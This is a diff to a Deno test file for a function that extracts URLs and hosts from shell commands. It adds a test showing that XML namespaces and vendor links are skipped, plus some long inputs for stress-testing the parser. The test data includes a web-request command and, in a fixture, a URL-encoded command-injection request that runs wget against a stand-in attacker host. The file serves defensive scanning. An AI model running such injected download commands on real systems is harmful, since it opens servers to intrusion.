@@ -237,6 +237,25 @@ Deno.test("findInCommand() finds what a command names", async (t) => {
   }
 });
 
+Deno.test("a command's namespaces and vendors' links are skipped, and said to be", () => {
+  const script = `<a xmlns="http://ns.example/a">; # https://aka.ms/a
+    $xmlns="http://evil.example/a"; iwr http://ns.example/a`;
+  assertEquals(
+    [...findInCommand(script, "f")].map((one) => [
+      one.text,
+      "reason" in one ? one.reason : one.kind,
+    ]),
+    [
+      ["http://ns.example/a", "the name of an XML namespace"],
+      ["https://aka.ms/a", "a vendor's page"],
+      ["http://evil.example/a", "url"],
+      ["evil.example", "host"],
+      ["http://ns.example/a", "url"],
+      ["ns.example", "host"],
+    ],
+  );
+});
+
 const REQUESTS: Readonly<Record<string, readonly string[]>> = {
   "/i.php?c=wget%20http://evil.example/x%20-O%20t": [
     "http://evil.example/x",
@@ -330,6 +349,9 @@ const HOSTILE: Readonly<Record<string, (n: number) => string>> = {
   "images": (n) => "docker pull a.io/x:".repeat(n / 19),
   "ports": (n) => "1:".repeat(n / 2),
   "options": (n) => "--server ".repeat(n / 9),
+  "namespaces": (n) => `<a ${" xmlns=".repeat(n / 7)}`,
+  "sockets": (n) => "connect({".repeat(n / 9),
+  "headers": (n) => "-H Host: a.io ".repeat(n / 14),
   "reversed": (n) => `| rev ${"| ver ".repeat(n / 6)}`,
 };
 
